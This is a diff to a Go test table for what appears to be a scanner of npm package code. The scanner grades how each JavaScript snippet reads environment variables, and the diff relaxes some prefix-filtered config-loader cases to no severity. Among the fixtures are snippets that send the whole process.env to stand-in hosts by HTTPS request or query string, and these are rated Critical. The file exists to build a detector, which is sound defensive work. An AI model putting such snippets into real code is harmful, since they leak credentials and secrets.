@@ -58,8 +58,10 @@ fetch("https://c.example.invalid/c", { method: "POST", body: JSON.stringify({ e:
 		// a prebuilt installer hands node-gyp a copy of the environment and downloads its binary
 		{"child_env_copy_at_install", map[string]string{"package.json": rt.Pkg(`"scripts":{"install":"node i.js"}`), "i.js": `const env = Object.assign({}, process.env, { npm_config_build_from_source: "true" });
 require("https").get(url, r => r.pipe(out)); require("child_process").spawn(process.execPath, [gyp, "rebuild"], { env, stdio: "inherit" })`}, finding.SeverityLow},
-		// a config loader collecting its own prefix, sending nothing
-		{"prefix_collected", map[string]string{"index.js": `const cfg = {}; for (const [k, v] of Object.entries(process.env)) { if (k.startsWith("MYAPP_")) cfg[k.slice(6)] = v } module.exports = cfg`}, finding.SeverityLow},
+		// a config loader collecting its own prefix, sending nothing: the
+		// loop reads those names only, as the filter form does
+		// (prefix_startswith)
+		{"prefix_collected", map[string]string{"index.js": `const cfg = {}; for (const [k, v] of Object.entries(process.env)) { if (k.startsWith("MYAPP_")) cfg[k.slice(6)] = v } module.exports = cfg`}, finding.SeverityNone},
 		{"querystring_env", map[string]string{"index.js": `https.get("https://x.example.invalid/?" + querystring.stringify(process.env))`}, finding.SeverityCritical},
 		{"env_in_payload", map[string]string{"index.js": `const d = JSON.stringify({h: 1, e: process.env}); require("https").request({hostname: "t.example.invalid", method: "POST"}).end(d)`}, finding.SeverityCritical},
 		// the environment by other means: Node's report, printenv's output
@@ -72,8 +74,10 @@ require("https").get(url, r => r.pipe(out)); require("child_process").spawn(proc
 		{"indexed_far_enum", map[string]string{"index.js": `const get = (k) => globalThis.process.env[k];` + strings.Repeat("\n// padding", 7000) +
 			`var A = {}; A["API_KEY_AUTH"] = "API_KEY_AUTH"; A["HTTP_BASIC_AUTH"] = "HTTP_BASIC_AUTH"; A["OIDC_AUTH"] = "OIDC_AUTH";`}, finding.SeverityNone},
 		{"env_in_options", map[string]string{"index.js": `configure({ environment: process.env })`}, finding.SeverityMedium},
-		// a config loader looking for its prefix, with nothing to send it
-		{"object_keys", map[string]string{"index.js": `for (const k of Object.keys(process.env)) { if (k.startsWith("DEBUG_")) use(k) }`}, finding.SeverityLow},
+		// a config loader looking for its prefix, with nothing to send
+		// it; the same loop keeping every name reads the whole environment
+		{"object_keys", map[string]string{"index.js": `for (const k of Object.keys(process.env)) { if (k.startsWith("DEBUG_")) use(k) }`}, finding.SeverityNone},
+		{"object_keys_all", map[string]string{"index.js": `for (const k of Object.keys(process.env)) { use(k) }`}, finding.SeverityLow},
 		// the debug module's options, a framework's own prefix
 		{"debug_inspect_opts", map[string]string{"index.js": `exports.inspectOpts = Object.keys(process.env).filter(function (key) { return /^debug_/i.test(key) }).reduce((o, k) => o, {}); require("https").get("https://api.example.invalid/")`}, finding.SeverityNone},
 		{"prefix_startswith", map[string]string{"index.js": `const pub = Object.keys(process.env).filter((k) => k.startsWith("STORYBOOK_")); fetch("https://api.example.invalid/")`}, finding.SeverityNone},
